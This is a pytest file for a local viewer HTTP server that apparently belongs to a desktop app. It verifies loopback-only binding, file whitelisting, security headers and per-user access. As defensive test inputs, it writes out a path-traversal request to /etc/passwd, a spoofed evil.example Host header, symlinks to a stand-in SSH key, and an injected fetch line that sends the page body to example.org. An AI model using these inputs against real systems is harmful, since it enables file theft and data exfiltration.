from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import subprocess
import sys
import urllib.error
import urllib.request
from collections.abc import Iterator
from http.client import HTTPConnection
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from PySide6.QtGui import QImage
from sogs.test_viewer import balls

from spaceport_app.errors import StageError
from spaceport_app.gui.export import loopback
from spaceport_app.gui.export.viewer_server import ViewerServer
from spaceport_app.sogs import file as bundles
from spaceport_app.sogs.axes import to_viewer


@pytest.fixture
def server(tmp_path: Path) -> Iterator[ViewerServer]:
    splats = tmp_path / "ä b.sog"
    splats.write_bytes(b"splats")
    server = ViewerServer(splats, "Farm <1>", ((1.0, 2.0, 3.0), (0.0, 0.0, 0.0)))
    yield server
    server.close()


def get(url: str) -> bytes:
    with urllib.request.urlopen(url, timeout=5) as answer:
        return answer.read()


def status(server: ViewerServer, path: str, host: str | None = None) -> int:
    place = urlsplit(server.url)
    connection = HTTPConnection(place.hostname or "", place.port, timeout=5)
    connection.request("GET", path, headers={"Host": host} if host else {})
    try:
        return connection.getresponse().status
    finally:
        connection.close()


def test_serves_viewer_splats_and_first_view(server: ViewerServer) -> None:
    page = get(server.url).decode()
    assert "<title>Farm &lt;1></title>" in page
    assert '"contentUrl": "./scene.sog"' in page
    assert get(f"{server.url}scene.sog") == b"splats"
    assert b"createViewer" in get(f"{server.url}index.js")
    settings = json.loads(get(f"{server.url}settings.json"))
    assert settings["cameras"][0]["initial"]["position"] == [1.0, 2.0, 3.0]


def test_serves_nothing_else_and_to_nobody_else(server: ViewerServer) -> None:
    path = urlsplit(server.url).path
    assert status(server, path) == 200
    assert status(server, "/") == 404
    assert status(server, "/wrong-token/index.html") == 404
    assert status(server, f"{path}../../../etc/passwd") == 404
    assert status(server, f"{path}LICENSE") == 404
    # A page elsewhere whose name is made to point here must not read the splat.
    assert status(server, path, host="evil.example:80") == 404


def test_listens_on_this_computer_alone_and_ends(tmp_path: Path) -> None:
    bundle = tmp_path / "bundle"
    bundle.mkdir()
    (bundle / "meta.json").write_text("{}")
    server = ViewerServer(bundle, "x")
    assert server.url.startswith("http://127.0.0.1:")
    assert '"contentUrl": "./meta.json"' in get(server.url).decode()
    assert get(f"{server.url}meta.json") == b"{}"
    server.close()
    with pytest.raises(urllib.error.URLError):
        get(server.url)


TEXTURES = ("means_l.webp", "means_u.webp", "quats.webp", "scales.webp", "sh0.webp")


@contextlib.contextmanager
def serving(splats: Path) -> Iterator[ViewerServer]:
    server = ViewerServer(splats, "Farm")
    try:
        yield server
    finally:
        server.close()


def headers(server: ViewerServer, path: str) -> tuple[int, dict[str, str]]:
    place = urlsplit(server.url)
    connection = HTTPConnection(place.hostname or "", place.port, timeout=5)
    connection.request("GET", path)
    try:
        answer = connection.getresponse()
        return answer.status, {name.lower(): value for name, value in answer.getheaders()}
    finally:
        connection.close()


def test_nothing_of_a_project_takes_the_place_of_the_viewer(tmp_path: Path) -> None:
    bundle = tmp_path / "bundle"
    bundles.write(bundle, balls(), "sog-folder")
    theirs = ("index.js", "index.css", "index.html", "settings.json", "extra.js", "notes.txt")
    for name in theirs:
        (bundle / name).write_text("fetch('https://example.org/' + document.body)")
    meta = json.loads((bundle / "meta.json").read_bytes())
    meta["x"] = {"files": list(theirs)}
    (bundle / "meta.json").write_text(json.dumps(meta))
    with serving(bundle) as server:
        path = urlsplit(server.url).path
        for name in theirs[:4]:
            assert b"example.org" not in get(f"{server.url}{name}")
        assert status(server, f"{path}extra.js") == status(server, f"{path}notes.txt") == 404
        for name in TEXTURES:
            assert get(f"{server.url}{name}") == (bundle / name).read_bytes()
        # The checked file is served, whatever has taken its place since.
        (bundle / "meta.json").write_text("{}")
        assert json.loads(get(f"{server.url}meta.json")) == meta


@pytest.mark.parametrize("kind", ["link", "link to nothing", "pipe", "folder"])
def test_what_is_no_file_of_the_bundle_is_not_served(tmp_path: Path, kind: str) -> None:
    bundle = tmp_path / "bundle"
    bundles.write(bundle, balls(), "sog-folder")
    (tmp_path / "id_rsa").write_bytes(b"the person's own key")
    with serving(bundle) as server:
        for name in TEXTURES:
            path = bundle / name
            path.unlink()
            if kind == "pipe":
                if not hasattr(os, "mkfifo"):
                    pytest.skip("pipes of POSIX")
                os.mkfifo(path)
            elif kind == "folder":
                path.mkdir()
            else:
                path.symlink_to(tmp_path / ("id_rsa" if kind == "link" else "none"))
            assert status(server, f"{urlsplit(server.url).path}{name}") == 404


def test_a_sog_that_is_a_link_is_not_served(tmp_path: Path) -> None:
    (tmp_path / "id_rsa").write_bytes(b"the person's own key")
    (tmp_path / "a.sog").symlink_to(tmp_path / "id_rsa")
    with serving(tmp_path / "a.sog") as server:
        assert status(server, f"{urlsplit(server.url).path}scene.sog") == 404


@pytest.mark.parametrize("text", ["[]", "{", '{"means": 1e999}', "[" * 99_999])
def test_a_meta_json_that_is_none_is_a_sentence(tmp_path: Path, text: str) -> None:
    (tmp_path / "meta.json").write_text(text)
    with contextlib.suppress(StageError):
        ViewerServer(tmp_path, "Farm").close()


def test_every_answer_tells_the_browser_to_run_and_ask_for_nothing_else(
    server: ViewerServer,
) -> None:
    path = urlsplit(server.url).path
    kinds = {
        "": "text/html",
        "index.css": "text/css",
        "index.js": "text/javascript",
        "settings.json": "application/json",
        "scene.sog": "application/octet-stream",
        "none": "text/html",
    }
    for name, kind in kinds.items():
        found, told = headers(server, f"{path}{name}")
        assert found == (404 if name == "none" else 200)
        assert told["content-type"].partition(";")[0] == kind
        assert told["x-content-type-options"] == "nosniff"
        assert told["referrer-policy"] == "no-referrer"
        policy = told["content-security-policy"]
        assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy
        assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
        assert not re.search(r"https?:|\*", policy)
    assert headers(server, "/")[1]["content-security-policy"] == policy


@pytest.mark.skipif(
    sys.platform != "linux" or os.getuid() != 0, reason="needs root, to become somebody else"
)
def test_another_user_who_knows_the_address_gets_nothing(server: ViewerServer) -> None:
    # The interpreter may lie where only its owner may look: it becomes somebody else late.
    code = (
        "import encodings.idna, os, socket, sys\n"
        "host, port, path, user = sys.argv[1:]\n"
        "os.setuid(int(user))\n"
        "with socket.create_connection((host, int(port)), 5) as peer:\n"
        "    try:\n"
        "        peer.sendall(f'GET {path} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n'.encode())\n"
        "        print(peer.recv(1000))\n"
        "    except ConnectionError:\n"
        "        pass\n"
    )
    place = urlsplit(server.url)
    words = [sys.executable, "-I", "-c", code, str(place.hostname), str(place.port), place.path]
    for user, found in (("0", True), ("65534", False), ("0", True)):
        ended = subprocess.run(
            [*words, user], capture_output=True, text=True, check=True, timeout=30
        )
        assert ("200 OK" in ended.stdout) is found


def test_whose_end_of_a_connection_it_is(monkeypatch: pytest.MonkeyPatch) -> None:
    rest = "00000000:00000000 00:00000000 00000000"
    ours, theirs = "0100007F:1F90", "0100007F:C350"
    mapped = "0000000000000000FFFF0000"
    near = f"0: {ours} {theirs} 01 {rest} 1000 0 77 1"

    def found(*lines: str) -> bool:
        monkeypatch.setattr(
            loopback, "_lines", lambda table: list(lines) if "6" not in table.name else []
        )
        return loopback.is_of_another_user(("127.0.0.1", 50000), ("127.0.0.1", 8080))

    monkeypatch.setattr(loopback.sys, "platform", "linux")
    monkeypatch.setattr(loopback.os, "getuid", lambda: 1000, raising=False)
    assert not found(near, f"1: {theirs} {ours} 01 {rest} 1000 0 78 1")
    assert not found(near, f"1: {theirs} {ours} 01 {rest} 0 0 78 1")
    assert found(near, f"1: {theirs} {ours} 01 {rest} 1001 0 78 1")
    assert found(near, f"1: {mapped}{theirs} {mapped}{ours} 01 {rest} 1001 0 78 1")
    # Closed by whoever held it, and somebody else's connection.
    assert found(near, f"1: {theirs} {ours} 06 {rest} 0 0 0 1")
    assert found(near, f"1: 0100007F:C351 {ours} 01 {rest} 1000 0 78 1")
    # A kernel without such a table.
    assert not found()
    monkeypatch.setattr(loopback.sys, "platform", "win32")
    assert not found(near, f"1: {theirs} {ours} 01 {rest} 1001 0 78 1")


BROWSER = (
    *("--headless", "--no-sandbox", "--disable-gpu", "--use-gl=angle", "--use-angle=swiftshader"),
    *("--enable-unsafe-swiftshader", "--ignore-gpu-blocklist", "--disable-background-networking"),
    *("--no-first-run", "--enable-logging=stderr", "--window-size=480,480"),
)


@pytest.mark.slow  # a browser on a busy machine takes minutes to draw
@pytest.mark.skipif(shutil.which("chromium") is None, reason="NOT TESTED IN CHROMIUM")
@pytest.mark.parametrize("form", ["sog", "sog-folder"])
def test_the_viewer_draws_under_the_policy(tmp_path: Path, form: str) -> None:
    path = tmp_path / ("scene.sog" if form == "sog" else "scene")
    bundles.write(path, to_viewer(balls()), form)
    server = ViewerServer(path, "Balls", ((0.0, 0.0, 4.0), (0.0, 0.0, 0.0)))
    try:
        assert any(_drawn(server.url, tmp_path / str(s), s) for s in (10, 30, 90, 90))
    finally:
        server.close()


def _drawn(url: str, folder: Path, seconds: int) -> bool:
    """Whether the balls are there after what the page takes for `seconds`."""
    folder.mkdir(exist_ok=True)
    picture = folder / "shown.png"
    words = (f"--user-data-dir={folder}", f"--screenshot={picture}")
    ended = subprocess.run(
        ["chromium", *BROWSER, *words, f"--virtual-time-budget={seconds}000", url],
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )
    assert "SuperSplat Viewer" in ended.stderr
    assert "Content Security Policy" not in ended.stderr
    image = QImage(str(picture), "PNG")
    colours = {image.pixelColor(x, y).name() for x in range(480) for y in range(0, 300, 2)}
    return {"#ff0000", "#00ff00"} <= colours
